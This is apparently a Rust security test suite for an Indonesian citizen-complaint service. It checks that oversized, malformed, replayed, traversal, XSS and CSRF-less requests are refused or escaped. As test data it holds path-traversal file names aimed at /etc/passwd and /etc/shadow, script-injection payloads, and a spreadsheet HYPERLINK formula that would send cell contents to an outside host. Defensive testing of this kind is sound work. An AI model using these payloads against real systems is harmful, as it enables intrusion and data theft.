//! Hostile input at the edges (issue #11, part 5): oversized and trickled bodies, invalid
//! UTF-8, deeply nested JSON, header floods, path traversal in attachment names, replayed
//! and expired signatures, forms without their CSRF token, and script in complaint text.
//! Each must get a clear 4xx (a JSON error in the reader's language on API routes), change
//! nothing (counts before and after), and leave the host serving (a normal request right
//! after succeeds).
//!
//! Already proven elsewhere and not repeated here: a replayed WhatsApp delivery, a replayed
//! Twilio SMS and a stale SMS-gateway request (`channels.rs`); forged and altered Meta
//! signatures (`channels.rs`); forms without, with a wrong, or with another browser's CSRF
//! token, and complaint text, names and addresses escaped on the portal's pages
//! (`portal.rs`); a file whose bytes are not a photo or PDF (`intake_api.rs`).

use std::io::{Read, Write};
use std::net::TcpStream;
use std::time::Duration;

use ntbcare_tests::{AppConfig, Reply, TestApp, TEST_ADMIN_TOKEN};
use serde_json::{json, Value};

use crate::channels::{fixture, post_gateway, post_meta, unix_now};
use crate::intake_api::{multipart, JPEG};
use crate::portal::Visitor;

const PASSWORD: &str = "kata-sandi-panjang";

fn app() -> TestApp {
    TestApp::spawn_with(
        AppConfig::ntbcare()
            .env("SPIN_VARIABLE_META_APP_SECRET", "meta-app-secret-uji")
            .env("SPIN_VARIABLE_SMS_GATEWAY_SECRET", "gateway-secret-uji")
            .env("SPIN_VARIABLE_OPEN311_API_KEYS", "kota:kunci-open311-uji")
            .env("SPIN_VARIABLE_PARTNER_API_KEYS", "sipepadu:kunci-mitra-uji"),
    )
    .unwrap()
}

fn total(app: &TestApp) -> i64 {
    app.get("/api/v1/reports/summary").unwrap().json().unwrap()["total"].as_i64().unwrap()
}

fn complaint() -> Value {
    json!({"description": "Jalan berlubang di depan SDN 3 Mataram", "region_code": "52.71",
           "category": "infrastruktur", "privacy": "anonymous"})
}

/// The host still serves: a normal complaint is accepted.
fn still_serving(app: &TestApp) {
    let r = app.post_json("/api/v1/complaints", &complaint()).unwrap();
    assert_eq!(r.status, 201, "after hostile input: {}", r.body);
}

/// A 4xx JSON error with a code and a message in Bahasa Indonesia.
fn api_error(r: &Reply, status: u16, code: &str) {
    assert_eq!(r.status, status, "{}", r.body);
    let v = r.json().unwrap();
    assert_eq!(v["error"]["code"], code, "{}", r.body);
    assert!(!v["error"]["message"].as_str().unwrap_or("").is_empty(), "{}", r.body);
}

/// Bytes written to the host as they are, over one connection; the answer's status and
/// text (`Connection: close` makes the host end the answer by closing).
fn raw(app: &TestApp, request: &[u8]) -> (u16, String) {
    let mut s = connect(app);
    let _ = s.write_all(request);
    read_answer(&mut s)
}

fn connect(app: &TestApp) -> TcpStream {
    let s = TcpStream::connect(app.base_url.trim_start_matches("http://")).unwrap();
    s.set_read_timeout(Some(Duration::from_secs(60))).unwrap();
    s
}

fn read_answer(s: &mut TcpStream) -> (u16, String) {
    let mut buf = Vec::new();
    let _ = s.read_to_end(&mut buf);
    let text = String::from_utf8_lossy(&buf).into_owned();
    let status = text.split(' ').nth(1).and_then(|c| c.parse().ok()).unwrap_or(0);
    (status, text)
}

#[test]
fn oversized_bodies_get_413_and_store_nothing() {
    let app = app();
    // Intake's own limit on a JSON complaint (64 KB), in either language.
    let mut big = complaint();
    big["description"] = json!("a".repeat(70 * 1024));
    let r = app.post_json("/api/v1/complaints", &big).unwrap();
    api_error(&r, 413, "payload-too-large");
    assert!(r.body.contains("terlalu besar"), "{}", r.body);
    let r = app
        .post_raw(
            "/api/v1/complaints",
            "application/json",
            big.to_string().as_bytes(),
            &[("accept-language", "en")],
        )
        .unwrap();
    assert!(r.body.contains("too large"), "{}", r.body);
    // A photo over 4 MB.
    let mut photo = JPEG.to_vec();
    photo.resize(4 * 1024 * 1024 + 1, 0);
    let (ct, body) = multipart(&[
        ("complaint", None, "application/json", complaint().to_string().as_bytes()),
        ("attachment", Some("besar.jpg"), "image/jpeg", &photo),
    ]);
    api_error(&app.post_raw("/api/v1/complaints", &ct, &body, &[]).unwrap(), 413, "file-too-large");
    // Over the host's limit (16 MiB) by its declared length: refused before any of it is read.
    let (status, answer) = raw(
        &app,
        b"POST /api/v1/complaints HTTP/1.1\r\nhost: x\r\ncontent-type: application/json\r\n\
          content-length: 17000000\r\nconnection: close\r\n\r\n{\"description\": ",
    );
    assert_eq!(status, 413);
    // The host's own refusal reads like the app's errors: JSON, in Bahasa Indonesia first.
    assert!(answer.contains("application/json"), "{answer}");
    assert!(
        answer.contains(r#"{"error":{"code":"payload-too-large","message":"Isi permintaan terlalu besar"#),
        "{answer}"
    );
    // Over it without a declared length (chunked): cut off at the limit.
    let mut s = connect(&app);
    s.write_all(
        b"POST /api/v1/partners/complaints HTTP/1.1\r\nhost: x\r\ncontent-type: application/json\r\n\
          authorization: Bearer kunci-mitra-uji\r\ntransfer-encoding: chunked\r\nconnection: close\r\n\r\n",
    )
    .unwrap();
    let chunk = format!("{:x}\r\n{}\r\n", 64 * 1024, " ".repeat(64 * 1024));
    for _ in 0..(17 * 16) {
        if s.write_all(chunk.as_bytes()).is_err() {
            break; // the host answered and closed: what we want
        }
    }
    let _ = s.write_all(b"0\r\n\r\n");
    let (status, answer) = read_answer(&mut s);
    assert!((400..500).contains(&status), "{answer}");
    assert_eq!(total(&app), 0);
    still_serving(&app);
}

#[test]
fn a_body_trickled_slower_than_the_request_timeout_is_cut_off_while_others_are_served() {
    let app = TestApp::spawn_with({
        let mut c = AppConfig::ntbcare();
        c.extra_args = vec!["--request-timeout".into(), "2".into()];
        c
    })
    .unwrap();
    let body = complaint().to_string();
    let mut slow = connect(&app);
    slow.write_all(
        format!(
            "POST /api/v1/complaints HTTP/1.1\r\nhost: x\r\ncontent-type: application/json\r\n\
             content-length: {}\r\nconnection: close\r\n\r\n",
            body.len()
        )
        .as_bytes(),
    )
    .unwrap();
    // One byte every 200 ms: the whole body would take far longer than the 2 s limit.
    let mut answered_meanwhile = false;
    for (i, b) in body.bytes().enumerate() {
        if slow.write_all(&[b]).is_err() {
            break;
        }
        std::thread::sleep(Duration::from_millis(200));
        if i == 3 {
            // Others are served while it trickles.
            still_serving(&app);
            answered_meanwhile = true;
        }
        if i > 25 {
            break;
        }
    }
    assert!(answered_meanwhile);
    let (status, answer) = read_answer(&mut slow);
    assert_eq!(status, 408, "{answer}");
    assert!(answer.contains(r#""code":"request-timeout""#) && answer.contains("terlalu lambat"), "{answer}");
    assert_eq!(total(&app), 1, "only the normal complaint");
    still_serving(&app);
}

#[test]
fn invalid_utf8_in_json_and_forms_is_a_clear_400() {
    let app = app();
    let bad_json: &[u8] =
        b"{\"description\": \"Jalan rusak \xff\xfe di depan SDN 3\", \"region_code\": \"52.71\"}";
    let r = app.post_raw("/api/v1/complaints", "application/json", bad_json, &[]).unwrap();
    api_error(&r, 400, "malformed-json");
    let r = app
        .post_raw(
            "/api/v1/partners/complaints",
            "application/json",
            bad_json,
            &[("authorization", "Bearer kunci-mitra-uji")],
        )
        .unwrap();
    assert_eq!(r.status, 400, "{}", r.body);
    assert!(r.json().unwrap()["error"]["code"].is_string(), "{}", r.body);
    let r =
        app.post_raw("/api/v1/sessions", "application/json", b"{\"username\": \"\xc3\x28\"}", &[]).unwrap();
    assert!(matches!(r.status, 400 | 422), "{}", r.body);
    assert!(r.json().unwrap()["error"]["code"].is_string(), "{}", r.body);
    // A signed Meta delivery with invalid UTF-8.
    let r = post_meta(&app, b"{\"object\": \"whatsapp_business_account\", \"entry\": [\xff]}");
    assert_eq!(r.status, 400, "{}", r.body);
    // Open311 forms: raw bytes and a percent-encoded invalid sequence.
    let form = "api_key=kunci-open311-uji&service_code=infrastruktur&lat=-8.58&long=116.11\
                &attribute%5Bregion_code%5D=52.71&description=Jalan+rusak+parah+";
    for tail in [&b"\xff\xfe"[..], b"%FF%FE"] {
        let mut body = form.as_bytes().to_vec();
        body.extend_from_slice(tail);
        let r = app
            .post_raw("/open311/v2/requests.json", "application/x-www-form-urlencoded", &body, &[])
            .unwrap();
        assert_eq!(r.status, 400, "{}", r.body);
        assert!(r.json().unwrap()[0]["description"].is_string(), "Open311's error format: {}", r.body);
    }
    // Casework actions.
    let r = app
        .post_raw(
            "/api/v1/cases/NTB-26-000000/actions",
            "application/json",
            b"{\"action\": \"verify\xff\"}",
            &[("authorization", &format!("Bearer {TEST_ADMIN_TOKEN}"))],
        )
        .unwrap();
    assert!((400..500).contains(&r.status), "{}", r.body);
    assert_eq!(total(&app), 0);
    still_serving(&app);
}

#[test]
fn deeply_nested_json_is_refused_without_harm() {
    let app = app();
    let nest = |n: usize| format!("{}{}", "[".repeat(n), "]".repeat(n)).into_bytes();
    // Under intake's size limit, as deep as it gets.
    let r = app.post_raw("/api/v1/complaints", "application/json", &nest(30_000), &[]).unwrap();
    api_error(&r, 400, "malformed-json");
    let deep_field = format!(
        "{{\"description\": \"Jalan rusak di depan SDN 3\", \"region_code\": \"52.71\", \"x\": {}}}",
        String::from_utf8(nest(30_000)).unwrap()
    );
    let r = app.post_raw("/api/v1/complaints", "application/json", deep_field.as_bytes(), &[]).unwrap();
    api_error(&r, 400, "malformed-json");
    // 100,000 brackets where no size limit comes first.
    let auth = format!("Bearer {TEST_ADMIN_TOKEN}");
    for (path, headers) in [
        ("/api/v1/partners/complaints", vec![("authorization", "Bearer kunci-mitra-uji")]),
        ("/api/v1/sessions", vec![]),
        ("/api/v1/officers", vec![("authorization", auth.as_str())]),
        ("/api/v1/cases/NTB-26-000000/actions", vec![("authorization", auth.as_str())]),
    ] {
        let r = app.post_raw(path, "application/json", &nest(100_000), &headers).unwrap();
        assert!((400..500).contains(&r.status), "{path}: {} {}", r.status, r.body);
        assert!(r.json().unwrap()["error"]["code"].is_string(), "{path}: {}", r.body);
    }
    let r = post_meta(&app, &nest(100_000));
    assert_eq!(r.status, 400, "{}", r.body);
    // Documents an administrator saves as TOML, nested as deep.
    let toml = format!("a = {}", String::from_utf8(nest(100_000)).unwrap());
    let rules_before = app.get_as(TEST_ADMIN_TOKEN, "/api/v1/admin/routing-rules").unwrap().body;
    for path in ["/api/v1/admin/routing-rules", "/api/v1/notifications/templates"] {
        let r = ntbcare_tests::put_raw(
            &app,
            path,
            "application/toml",
            toml.as_bytes(),
            &[("authorization", &auth)],
        )
        .unwrap();
        assert!((400..500).contains(&r.status), "{path}: {} {}", r.status, r.body);
    }
    assert_eq!(app.get_as(TEST_ADMIN_TOKEN, "/api/v1/admin/routing-rules").unwrap().body, rules_before);
    assert_eq!(total(&app), 0);
    still_serving(&app);
}

#[test]
fn header_floods_get_431_and_the_host_keeps_serving() {
    let app = app();
    let mut many = String::from("GET /api/v1/reports/summary HTTP/1.1\r\nhost: x\r\nconnection: close\r\n");
    for i in 0..2000 {
        many.push_str(&format!("x-banjir-{i}: {i}\r\n"));
    }
    many.push_str("\r\n");
    let (status, answer) = raw(&app, many.as_bytes());
    assert_eq!(status, 431, "{answer}");
    let huge = format!(
        "GET /api/v1/reports/summary HTTP/1.1\r\nhost: x\r\nconnection: close\r\ncookie: {}\r\n\r\n",
        "a".repeat(1024 * 1024)
    );
    let (status, answer) = raw(&app, huge.as_bytes());
    assert_eq!(status, 431, "{}", &answer[..answer.len().min(300)]);
    // A header line that never ends, then the connection is dropped.
    let mut s = connect(&app);
    let _ = s.write_all(b"GET / HTTP/1.1\r\nhost: x\r\nx-tanpa-akhir: ");
    drop(s);
    still_serving(&app);
    assert_eq!(total(&app), 1);
}

#[test]
fn attachment_names_cannot_climb_out_and_nothing_is_written_outside_the_store() {
    let app = app();
    let before = files_under(app.state_dir());
    let outside = app.state_dir().parent().unwrap().to_path_buf();
    let outside_before = files_under(&outside).len();
    let names: [(&str, &str); 6] = [
        ("../../etc/passwd", "passwd"),
        ("..\\..\\Windows\\System32\\foto.jpg", "foto.jpg"),
        ("/etc/shadow", "shadow"),
        ("C:\\Users\\warga\\..\\foto jalan.jpg", "foto jalan.jpg"),
        ("foto\0.jpg/../..", "berkas"),
        ("....//....//.hidden.jpg", "hidden.jpg"),
    ];
    for pair in names.chunks(3) {
        let complaint = complaint().to_string();
        let mut parts = vec![("complaint", None, "application/json", complaint.as_bytes())];
        for (name, _) in pair {
            parts.push(("attachment", Some(*name), "image/jpeg", JPEG));
        }
        let (ct, body) = multipart(&parts);
        let r = app.post_raw("/api/v1/complaints", &ct, &body, &[]).unwrap();
        assert_eq!(r.status, 201, "{}", r.body);
        let v = r.json().unwrap();
        for (i, (name, expected)) in pair.iter().enumerate() {
            let stored = v["attachments"][i]["name"].as_str().unwrap();
            assert_eq!(stored, *expected, "{name:?}");
            assert!(!stored.contains(['/', '\\', '\0']) && !stored.starts_with('.'), "{stored:?}");
        }
        // Served back from the store, byte for byte.
        let ticket = v["ticket"].as_str().unwrap();
        let (status, bytes) =
            ntbcare_tests::get_bytes(&app, &format!("/api/v1/complaints/{ticket}/attachments/3")).unwrap();
        assert_eq!((status, bytes.as_slice()), (200, JPEG));
    }
    // No file appeared beside or under the state directory but the store's own.
    let after = files_under(app.state_dir());
    let new: Vec<_> = after.iter().filter(|f| !before.contains(f)).collect();
    assert!(
        new.iter().all(|f| f.file_name().unwrap().to_string_lossy().contains(".db")),
        "new files: {new:?}"
    );
    assert!(!after
        .iter()
        .any(|f| ["passwd", "shadow", "foto.jpg"].contains(&&*f.file_name().unwrap().to_string_lossy())));
    let _ = outside_before; // other tests write beside us; only our own directory is ours to check
    still_serving(&app);
}

fn files_under(dir: &std::path::Path) -> Vec<std::path::PathBuf> {
    let mut out = vec![];
    let mut stack = vec![dir.to_path_buf()];
    while let Some(d) = stack.pop() {
        for e in std::fs::read_dir(&d).into_iter().flatten().flatten() {
            let p = e.path();
            if p.is_dir() {
                stack.push(p);
            } else {
                out.push(p);
            }
        }
    }
    out
}

#[test]
fn replayed_and_expired_webhook_signatures_create_nothing() {
    let mut app = app();
    // The same signed WhatsApp delivery, eight times at once: one complaint.
    let body = fixture("meta/whatsapp_text.json");
    let answers: Vec<Reply> = std::thread::scope(|s| {
        let handles: Vec<_> = (0..8).map(|_| s.spawn(|| post_meta(&app, &body))).collect();
        handles.into_iter().map(|h| h.join().unwrap()).collect()
    });
    for r in &answers {
        assert!(matches!(r.status, 200 | 409 | 429 | 503), "{}", r.body);
    }
    assert_eq!(total(&app), 1, "{answers:?}");
    // Replayed after a restart: still one.
    app.restart().unwrap();
    let r = post_meta(&app, &body);
    assert_eq!(r.json().unwrap()["received"][0]["result"], "duplicate", "{}", r.body);
    // The SMS gateway: a timestamp from the future is as stale as one from the past; a
    // fresh signature with the timestamp swapped afterwards does not verify; the same
    // message id twice within the window is one complaint.
    let sms = fixture("sms_gateway/single.json");
    let future = post_gateway(&app, &sms, unix_now() + 3600);
    api_error(&future, 401, "stale-request");
    let now = unix_now();
    let ts = now.to_string();
    let mut signed = format!("{ts}.").into_bytes();
    signed.extend_from_slice(&sms);
    let sig = {
        use hmac::{Hmac, Mac};
        let mut m = Hmac::<sha2::Sha256>::new_from_slice(b"gateway-secret-uji").unwrap();
        m.update(&signed);
        let hex: String = m.finalize().into_bytes().iter().map(|b| format!("{b:02x}")).collect();
        format!("sha256={hex}")
    };
    let swapped = app
        .post_raw(
            "/webhooks/sms/gateway",
            "application/json",
            &sms,
            &[("x-ntbcare-signature", &sig), ("x-ntbcare-timestamp", &(now - 10).to_string())],
        )
        .unwrap();
    assert_eq!(swapped.status, 401, "{}", swapped.body);
    assert_eq!(total(&app), 1);
    assert_eq!(post_gateway(&app, &sms, now).status, 200);
    assert_eq!(post_gateway(&app, &sms, now + 1).status, 200);
    assert_eq!(total(&app), 2, "the gateway's message once");
    still_serving(&app);
}

#[test]
fn portal_forms_without_a_token_change_no_case_and_no_rating() {
    let app = desk();
    let (ticket, secret) = answered_case(&app);
    let officer = Visitor::new(&app);
    officer.sign_in("koordinator");
    // A cross-site form carries the session cookie (were SameSite absent) but no token.
    let r = officer.post(&format!("/petugas/kasus/{ticket}"), &[("action", "close")]);
    assert_eq!(r.status, 403, "{}", r.body);
    let citizen = Visitor::new(&app);
    let r = citizen
        .post(&format!("/lacak/{ticket}/nilai"), &[("kode", &secret), ("score", "1"), ("resolved", "no")]);
    assert_eq!(r.status, 403, "{}", r.body);
    let case = app.get_as(TEST_ADMIN_TOKEN, &format!("/api/v1/cases/{ticket}")).unwrap().json().unwrap();
    assert_eq!(case["status"], "responded", "{case}");
    assert!(case["case"]["rating"].is_null(), "{case}");
}

fn desk() -> TestApp {
    let app = app();
    for (username, role, unit) in [
        ("koordinator", "provincial-coordinator", None),
        ("mataram", "liaison-officer", Some("pemkot-mataram")),
    ] {
        let body = json!({"username": username, "name": username.to_uppercase(), "role": role, "unit": unit,
                          "password": PASSWORD});
        let r = app.post_json_as(TEST_ADMIN_TOKEN, "/api/v1/officers", &body).unwrap();
        assert_eq!(r.status, 201, "{}", r.body);
    }
    app
}

fn token(app: &TestApp, username: &str) -> String {
    let r = app.post_json("/api/v1/sessions", &json!({"username": username, "password": PASSWORD})).unwrap();
    r.json().unwrap()["token"].as_str().unwrap().to_string()
}

fn act(app: &TestApp, token: &str, ticket: &str, action: Value) {
    let r = app.post_json_as(token, &format!("/api/v1/cases/{ticket}/actions"), &action).unwrap();
    assert_eq!(r.status, 200, "{action}: {}", r.body);
}

/// A complaint dispatched, accepted and answered; (ticket, tracking secret).
fn answered_case(app: &TestApp) -> (String, String) {
    let r = app.post_json("/api/v1/complaints", &complaint()).unwrap().json().unwrap();
    let (ticket, secret) =
        (r["ticket"].as_str().unwrap().to_string(), r["tracking_secret"].as_str().unwrap().to_string());
    let (k, m) = (token(app, "koordinator"), token(app, "mataram"));
    act(app, &k, &ticket, json!({"action": "verify"}));
    act(app, &k, &ticket, json!({"action": "dispatch"}));
    act(app, &m, &ticket, json!({"action": "accept"}));
    act(
        app,
        &m,
        &ticket,
        json!({"action": "respond", "answer": "Lubang jalan di depan SDN 3 sudah ditambal oleh tim Dinas PUPR Kota Mataram pada hari Senin."}),
    );
    (ticket, secret)
}

const SCRIPT: &str = "<script>alert(1)</script>";
const BREAKOUT: &str = "\"><img src=x onerror=alert(2)>";

#[test]
fn script_in_what_officers_and_citizens_write_is_escaped_on_every_page() {
    let app = desk();
    let (k, m) = (token(&app, "koordinator"), token(&app, "mataram"));
    let evil = format!("Jalan rusak {SCRIPT} {BREAKOUT}");
    let mut body = complaint();
    body["description"] = json!(evil);
    body["title"] = json!(format!("Judul {BREAKOUT}"));
    body["address"] = json!(format!("Jl. {SCRIPT}"));
    let (ct, form) = multipart(&[
        ("complaint", None, "application/json", body.to_string().as_bytes()),
        ("attachment", Some("<svg onload=alert(3)>.jpg"), "image/jpeg", JPEG),
    ]);
    let r = app.post_raw("/api/v1/complaints", &ct, &form, &[]).unwrap();
    assert_eq!(r.status, 201, "{}", r.body);
    let v = r.json().unwrap();
    let (ticket, secret) =
        (v["ticket"].as_str().unwrap().to_string(), v["tracking_secret"].as_str().unwrap().to_string());
    act(&app, &k, &ticket, json!({"action": "verify", "title": format!("Diverifikasi {SCRIPT}")}));
    act(&app, &k, &ticket, json!({"action": "dispatch", "internal_note": format!("catatan {BREAKOUT}")}));
    act(&app, &m, &ticket, json!({"action": "accept"}));
    act(
        &app,
        &m,
        &ticket,
        json!({"action": "request-information", "question": format!("Di mana? {SCRIPT}")}),
    );
    let r = app
        .post_raw(
            &format!("/api/v1/complaints/{ticket}/information"),
            "application/json",
            json!({"text": format!("Di sini {BREAKOUT}")}).to_string().as_bytes(),
            &[("x-tracking-secret", &secret)],
        )
        .unwrap();
    assert_eq!(r.status, 200, "{}", r.body);
    act(
        &app,
        &m,
        &ticket,
        json!({"action": "respond", "answer": format!("Sudah ditambal oleh tim Dinas PUPR Kota Mataram hari Senin {SCRIPT}")}),
    );

    let coordinator = Visitor::new(&app);
    let unit = Visitor::new(&app);
    let citizen = Visitor::new(&app);
    let mut pages = vec![
        ("koordinator /petugas", coordinator.sign_in("koordinator").body),
        ("koordinator case", coordinator.get(&format!("/petugas/kasus/{ticket}")).body),
        ("mataram /petugas", unit.sign_in("mataram").body),
        ("mataram case", unit.get(&format!("/petugas/kasus/{ticket}")).body),
        ("citizen own", citizen.get(&format!("/lacak/{ticket}?kode={secret}")).body),
        ("public", citizen.get(&format!("/lacak/{ticket}")).body),
    ];
    // The reporting pages, with script in their query parameters as well.
    let q = "?lang=%3Cscript%3Ealert(1)%3C/script%3E&unit=%22%3E%3Cimg%20src=x%20onerror=alert(2)%3E";
    for path in ["/api/v1/reports/dashboard", "/api/v1/reports/semester"] {
        for query in ["", q] {
            let r = app.get_as(TEST_ADMIN_TOKEN, &format!("{path}{query}")).unwrap();
            // A unit nobody knows is refused as JSON (which names it), never rendered as a page.
            if r.status == 400 {
                assert!(r.header("content-type").unwrap().starts_with("application/json"), "{}", r.body);
                continue;
            }
            pages.push((path, format!("{} {}", r.status, r.body)));
        }
    }
    // Script in the language parameter alone: the page is rendered (in the default language).
    let lang_only = "?lang=%3Cscript%3Ealert(1)%3C/script%3E";
    for path in ["/api/v1/reports/dashboard", "/api/v1/reports/semester"] {
        let r = app.get_as(TEST_ADMIN_TOKEN, &format!("{path}{lang_only}")).unwrap();
        assert_eq!(r.status, 200, "{}", r.body);
        pages.push((path, r.body));
    }
    let public_dashboard = app.get(&format!("/api/v1/reports/dashboard{q}")).unwrap();
    if public_dashboard.status == 400 {
        assert!(public_dashboard.header("content-type").unwrap().starts_with("application/json"));
    } else {
        pages.push(("public dashboard", public_dashboard.body));
    }
    let public_dashboard = app.get(&format!("/api/v1/reports/dashboard{lang_only}")).unwrap();
    pages.push(("public dashboard", public_dashboard.body));
    for (label, page) in &pages {
        for raw in ["<script>alert", "<img src=x onerror", "<svg onload"] {
            assert!(!page.contains(raw), "{raw} unescaped on {label}:\n{page}");
        }
    }
    // The officer's case page shows what was written, as text.
    let case = &pages[1].1;
    assert!(case.contains("Jalan rusak &lt;script&gt;alert(1)&lt;/script&gt;"), "{case}");
    assert!(case.contains("catatan &quot;&gt;&lt;img src=x onerror=alert(2)&gt;"), "{case}");
    // JSON answers are JSON, never HTML a browser would render.
    let json_case = app.get_as(&k, &format!("/api/v1/cases/{ticket}")).unwrap();
    assert!(json_case.header("content-type").unwrap().starts_with("application/json"));
}

#[test]
fn a_title_a_spreadsheet_would_run_as_a_formula_is_exported_as_text() {
    let app = app();
    let formula = "=HYPERLINK(\"http://contoh.invalid/?\"&A1,\"Klik untuk detail\")";
    let mut body = complaint();
    body["title"] = json!(formula);
    body["privacy"] = json!("public");
    let r = app.post_json("/api/v1/complaints", &body).unwrap();
    assert_eq!(r.status, 201, "{}", r.body);
    let csv = app.get_as(TEST_ADMIN_TOKEN, "/api/v1/reports/complaints.csv").unwrap();
    assert_eq!(csv.status, 200, "{}", csv.body);
    let rows = ntbcare_domain::measures::csv::parse(csv.body.trim_start_matches('\u{feff}'));
    let column = rows[0].iter().position(|c| c == "title").unwrap();
    assert_eq!(rows[1][column], format!("'{formula}"), "{}", csv.body);
}
